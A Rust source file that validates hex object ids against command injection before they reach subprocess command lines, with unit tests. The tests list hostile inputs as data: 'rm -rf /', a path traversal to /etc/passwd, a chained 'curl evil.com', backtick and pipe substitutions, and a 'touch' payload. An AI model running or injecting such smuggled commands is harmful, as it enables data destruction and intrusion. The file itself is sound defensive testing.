//! Object id validation.
//!
//! An object id reaches this engine from three untrusted directions: the
//! site configuration, the resource manifest, and packager output. Every one
//! of them is validated here before the value is ever placed on a subprocess
//! command line; anything else is a command-injection hole.

use color_eyre::{Result, eyre::bail};
use lazy_regex::regex_is_match;

/// Validate an object id: an optional `0x` prefix followed by 1–64 hex
/// characters, and nothing else.
///
/// Rejections are deliberately loud about why, since a rejected id usually
/// means a corrupted config file.
pub fn validate_object_id(input: &str) -> Result<&str> {
    if input.is_empty() {
        bail!("object id is empty");
    }
    if input.contains(char::is_whitespace) {
        bail!("object id contains whitespace: {input:?}");
    }
    if input.contains([';', '|', '`', '$', '\0']) {
        bail!("object id contains shell metacharacters: {input:?}");
    }
    if input.contains("..") {
        bail!("object id contains a path traversal: {input:?}");
    }
    if input.starts_with('-') {
        bail!("object id starts with a dash: {input:?}");
    }
    if !regex_is_match!(r"^(0x)?[0-9a-fA-F]{1,64}$", input) {
        bail!("object id is not 1-64 hex characters: {input:?}");
    }
    Ok(input)
}

#[cfg(test)]
mod tests {
    use super::*;
    use simple_test_case::test_case;

    #[test_case("0x1234567890abcdef"; "prefixed hex")]
    #[test_case("1234567890ABCDEF"; "bare uppercase hex")]
    #[test_case("0x1111111111111111111111111111111111111111"; "forty hex chars")]
    #[test_case("a"; "single hex char")]
    #[test]
    fn valid_ids_pass(input: &str) {
        assert!(validate_object_id(input).is_ok());
    }

    #[test_case("; rm -rf /"; "semicolon command")]
    #[test_case("../../../etc/passwd"; "path traversal")]
    #[test_case("0xABC; curl evil.com"; "chained command")]
    #[test_case("valid\nevil"; "embedded newline")]
    #[test_case("has spaces"; "whitespace")]
    #[test_case("0xABC`ls`"; "backtick substitution")]
    #[test_case(""; "empty string")]
    #[test_case("0xABC | whoami"; "pipe")]
    #[test_case("-0xabc"; "leading dash")]
    #[test_case("0xzzzz"; "non hex")]
    #[test_case("0x11111111111111111111111111111111111111111111111111111111111111111"; "sixty five hex chars")]
    #[test]
    fn hostile_ids_fail(input: &str) {
        assert!(validate_object_id(input).is_err());
    }

    #[test]
    fn rejection_happens_before_any_side_effect() {
        // Validation of a hostile id must not spawn anything: if the payload
        // had executed, it would have dropped a file in this directory.
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("pwned");
        let payload = format!("0xABC; touch {}", marker.display());

        assert!(validate_object_id(&payload).is_err());

        #[allow(clippy::disallowed_methods)]
        let entries = std::fs::read_dir(dir.path()).unwrap().count();
        assert_eq!(entries, 0, "no side-effect file may be produced");
        assert!(!marker.exists());
    }
}
